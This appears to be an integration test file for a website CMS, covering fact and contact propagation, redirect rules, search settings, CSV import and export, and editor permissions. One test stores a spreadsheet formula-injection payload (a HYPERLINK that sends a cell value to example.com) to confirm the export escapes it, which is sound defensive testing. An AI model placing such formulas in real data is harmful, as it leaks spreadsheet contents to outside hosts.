import { withSite } from './support/with-site.js';

const own = withSite();

interface Row {
  [name: string]: any;
}

/** The newest version of a row. */
async function rowOf(slug: string, field: string, name: string): Promise<Row> {
  const query = `where[${field}][equals]=${encodeURIComponent(name)}&depth=0&draft=true`;
  const { json } = await own.publisher.request('GET', `/api/${slug}?${query}`);
  return json.docs[0];
}

function add(slug: string, data: Row) {
  return own.publisher.request('POST', `/api/${slug}?depth=0`, { ...data, _status: 'published' });
}

function change(slug: string, { id }: Row, data: Row, session = own.publisher, query = '') {
  return session.request('PATCH', `/api/${slug}/${id}?depth=0&${query}`, { _status: 'published', ...data });
}

function errorsOf({ status, json }: { status: number; json: any }): [path: string, message: string][] {
  expect({ status, json }).toMatchObject({ status: 400 });
  return json.errors[0].data.errors.map(({ path, message }: Row) => [path, message]);
}

const fact = (name: string) => rowOf('facts', 'key', name);
const contact = (name: string) => rowOf('contacts', 'key', name);

it.each([
  ['facts', 'value', 'share_capital', '71234567', 'terms', /71,234,567/],
  ['contacts', 'phone', 'reach', '+39 011 555 0188', 'reach', /\+39\s011\s555\s0188/],
])('%s: what is changed is on every page, and a draft on none', async (slug, field, name, value, page, shown) => {
  const row = await rowOf(slug, 'key', name);
  const draft = await change(slug, row, { [field]: '+39 011 555 0177', _status: undefined }, own.editor, 'draft=true');
  expect(draft.status).toBe(200);
  expect((await change(slug, row, { [field]: value })).status).toBe(200);
  await own.until(`/${page}`, ({ body }) => shown.test(body));
});

it.each([
  ['facts', 'share_capital', 'share_capital', 'terms', { value: '1' }],
  ['contacts', 'reach', 'reach_phone', 'reach', { email: 'unused@example.com' }],
])(
  '%s tell on which pages they are used, and none that a page needs may go or be unpublished',
  async (slug, key, name, page, data) => {
    const row = await rowOf(slug, 'key', key);
    const { json } = await own.publisher.request('GET', `/api/${slug}/${row.id}?depth=0`);
    expect(json.used_on).toContain((await own.publisher.page(page)).id);
    const missing = expect.stringMatching(new RegExp(`${name} is missing.*${page} \\(English\\)`));
    expect(errorsOf(await change(slug, row, { key: 'renamed' }))).toContainEqual(['key', missing]);
    const removed = await own.publisher.request('DELETE', `/api/${slug}/${row.id}`);
    expect([removed.status, removed.json.errors[0].message]).toEqual([409, missing]);
    expect((await change(slug, row, { _status: 'draft' })).status).toBe(403);
    const all = await own.publisher.request('PATCH', `/api/${slug}?where[id][exists]=true`, { _status: 'draft' });
    expect(all.status).toBe(403);
    const added = await add(slug, { key: 'unused', ...data });
    expect((await own.publisher.request('DELETE', `/api/${slug}/${added.json.doc.id}`)).status).toBe(200);
  },
);

it('a fact has a name of its own, and a number is one', async () => {
  const plants = await fact('plants');
  expect(errorsOf(await change('facts', plants, { value: 'many', is_number: true }))).toEqual([
    ['value', 'is not a number'],
  ]);
  expect(errorsOf(await add('facts', { key: 'plants', value: '1' }))).toEqual([['key', expect.anything()]]);
  expect(errorsOf(await add('facts', { key: 'Reach phone', value: '1' }))).toEqual([['key', expect.anything()]]);
});

it('a contact keeps what a page needs, and has a role in English or none', async () => {
  const press = await contact('press_head');
  expect(errorsOf(await change('contacts', press, { role_en: '' }))).toEqual([['role_en', 'is missing']]);
  expect(errorsOf(await change('contacts', press, { email: 'press at example' }))).toEqual([
    ['email', expect.stringContaining('mail')],
  ]);
  expect(errorsOf(await change('contacts', press, { email: '' }))).toEqual([
    ['key', expect.stringMatching(/press_head_email is missing.*media\/contacts/)],
  ]);
  expect((await change('contacts', press, { role_it: 'Direttrice della comunicazione' })).status).toBe(200);
  await own.until('/it/media/contatti', ({ body }) => body.includes('Direttrice della comunicazione'));
});

it('a redirect leads to a page in one step, and follows its path', async () => {
  const reach = (await own.publisher.page('reach')).id;
  const redirect = { kind: 'legacy', from: '/old-reach', type: 'page', page: reach, language: 'it' };
  expect((await add('redirects', redirect)).status).toBe(201);
  await own.until('/old-reach', ({ status }) => status === 301);
  expect(await own.site.get('/old-reach')).toMatchObject({ headers: { location: '/it/regolamento-reach' } });
  const page = await own.publisher.page('reach', 'it');
  expect((await own.publisher.save(page, { alias: 'reach-nuovo', _status: 'published' }, 'it')).status).toBe(200);
  await own.until('/it/reach-nuovo', ({ status }) => status === 200);
  expect(await own.site.get('/old-reach')).toMatchObject({ headers: { location: '/it/reach-nuovo' } });
  expect((await own.publisher.request('GET', `/api/pages/${reach}?depth=0`)).json.redirects.docs).toHaveLength(3);
});

it('a redirect to the address of a page is one to the page', async () => {
  const { id } = await own.publisher.page('terms');
  const added = (from: string, address: string) => add('redirects', { kind: 'legacy', from, type: 'address', address });
  const italian = await added('/old-terms', '/it/condizioni-di-utilizzo?from=old');
  expect(italian.json.doc).toMatchObject({ type: 'page', page: id, language: 'it', address: '?from=old' });
  expect((await added('/older-terms', '/terms')).json.doc).toMatchObject({
    type: 'page',
    page: id,
    language: 'en',
  });
});

it('a redirect that leads nowhere, takes the path of a page or begins a chain is refused', async () => {
  const refused = async (from: string, address: string) =>
    errorsOf(await add('redirects', { kind: 'legacy', from, type: 'address', address }));
  expect(await refused('/older', '/nowhere')).toEqual([['address', expect.stringContaining('no page')]]);
  expect(await refused('/reach', '/terms')).toEqual([['from', expect.stringContaining('path of a page')]]);
  expect(await refused('older', '/reach')).toEqual([['from', expect.stringContaining('slash')]]);
  expect(await refused('/older', '/old-reach')).toEqual([['from', expect.stringContaining('chain')]]);
  expect(errorsOf(await add('redirects', { kind: 'legacy', from: '/older', type: 'page' }))).toEqual([
    ['page', 'is missing'],
  ]);
  const gone = await add('redirects', { kind: 'legacy', from: '/older', type: 'gone' });
  expect(gone.status).toBe(201);
  await own.until('/older', ({ status }) => status === 410);
});

it('synonyms and pinned pages are those of the search', async () => {
  const result = /<main(?:(?!<\/main>)[\s\S])*href="\/reach"/;
  const shown = (query: string) => own.until(`/search/${query}`, ({ body }) => result.test(body));
  const { id } = await own.publisher.page('reach');
  const pinned = { language: 'en', kind: 'pinned', words: 'windmill', pages: [id] };
  expect((await add('searchSettings', pinned)).status).toBe(201);
  await shown('windmill');
  const synonyms = { language: 'en', kind: 'synonyms', words: 'quixote, REACH' };
  expect((await add('searchSettings', synonyms)).status).toBe(201);
  await shown('quixote');
  expect(errorsOf(await add('searchSettings', { ...synonyms, words: 'alone' }))).toEqual([
    ['words', expect.stringContaining('two or more')],
  ]);
  expect(errorsOf(await add('searchSettings', { ...pinned, words: 'x', pages: [] }))).toEqual([
    ['pages', expect.anything()],
  ]);
  const hidden = (await own.publisher.page('maintenance')).id;
  expect(errorsOf(await add('searchSettings', { ...pinned, words: 'x', pages: [hidden] }))).toEqual([
    ['pages', expect.stringContaining('does not list')],
  ]);
  expect(errorsOf(await add('searchSettings', pinned))).toEqual([[expect.anything(), expect.anything()]]);
});

it('of entries of the search as CSV, a page or a language that is not there is told', async () => {
  const csv = 'language,kind,words,pages\nen,pinned,first,reach no/page\ncs,synonyms,"one, two",\n';
  expect((await own.publisher.request('POST', '/api/searchSettings/csv', csv)).json.faults).toEqual([
    { line: 2, reason: expect.stringContaining('no page no/page') },
    { line: 3, reason: expect.stringContaining('is none of en, it, pl, cz') },
  ]);
});

it.each([
  ['contacts', 'turboprop_support_africa'],
  ['facts', 'share_capital'],
  ['redirects', '/Who/Profile'],
  ['searchSettings', 'MRO, overhaul, overhauls'],
])('%s as CSV: what is exported can be imported, and changes nothing', async (slug, name) => {
  const exported = await own.publisher.request('GET', `/api/${slug}/csv`);
  expect(exported.json).toContain(name);
  const rows = exported.json.trim().split('\r\n').length - 1;
  expect(await own.publisher.request('POST', `/api/${slug}/csv`, exported.json)).toEqual({
    status: 200,
    json: { added: 0, changed: 0, unchanged: rows, faults: [] },
  });
});

it('of facts as CSV no cell is a formula, and drafts are left out', async () => {
  const value = '=HYPERLINK("https://example.com/?"&A1)';
  const stored = [
    await add('facts', { key: 'formula', value }),
    await add('facts', { key: 'cold', value: '-40', is_number: true }),
    await own.editor.request('POST', '/api/facts', { key: 'not_public', value: '=1+1' }),
  ];
  expect(stored.map(({ status }) => status)).toEqual([201, 201, 201]);
  const csv: string = (await own.publisher.request('GET', '/api/facts/csv')).json;
  expect(csv).toContain(`formula,"'=HYPERLINK(""https:`);
  expect(csv).toContain('cold,-40,true');
  expect(csv).not.toContain('not_public');
  const { json } = await own.publisher.request('POST', '/api/facts/csv', csv);
  expect(json).toMatchObject({ added: 0, changed: 0, faults: [] });
  expect(await fact('formula')).toMatchObject({ value });
});

it('facts from CSV are on the site, with semicolons too', async () => {
  const csv = 'key;value;is_number\r\nvat_number;IT00000000177;\r\nnew_fact;12;true\r\n';
  expect((await own.publisher.request('POST', '/api/facts/csv', csv)).json).toEqual({
    ...{ added: 1, changed: 1, unchanged: 0, faults: [] },
  });
  await own.until('/terms', ({ body }) => body.includes('IT00000000177'));
});

it('of a CSV file with faults nothing is stored, and each fault is told with its line', async () => {
  const redirects = await own.publisher.request(
    'POST',
    '/api/redirects/csv',
    '/right,/reach\n/wrong,/nowhere\nx,/reach\n',
  );
  expect([redirects.status, redirects.json.faults]).toEqual([
    400,
    [
      { line: 2, reason: expect.stringContaining('no page /nowhere') },
      { line: 3, reason: expect.stringContaining('no address') },
    ],
  ]);
  expect(await rowOf('redirects', 'from', '/right')).toBeUndefined();
  const csv = 'key,value,is_number\nright,1,true\nwrong,many,true\nwrong,1,true\n"open,1,\n';
  expect((await own.publisher.request('POST', '/api/facts/csv', csv)).json.faults).toEqual([
    { line: 5, reason: expect.stringContaining('Quote Not Closed') },
  ]);
  expect((await own.publisher.request('POST', '/api/facts/csv', csv.replace('"open', 'Open'))).json.faults).toEqual([
    { line: 4, reason: 'wrong: is there twice' },
    expect.objectContaining({ reason: 'wrong, value: is not a number' }),
    { line: 5, reason: expect.stringContaining('Open, key: ') },
  ]);
  const unknown = await own.publisher.request('POST', '/api/facts/csv', 'key,valeu,is_number\nright,1,true\n');
  expect(unknown.json.faults).toEqual([
    { line: 1, reason: expect.stringContaining('no column valeu') },
    { line: 2, reason: 'right, value: is missing' },
  ]);
  expect(await fact('right')).toBeUndefined();
});

it('editors export tables, and import none; nobody else reads them', async () => {
  expect((await own.editor.request('GET', '/api/facts/csv')).status).toBe(200);
  expect((await own.editor.request('POST', '/api/facts/csv', 'key,value\n')).status).toBe(403);
  expect((await own.cms.request('GET', '/api/redirects/csv')).status).toBe(403);
});
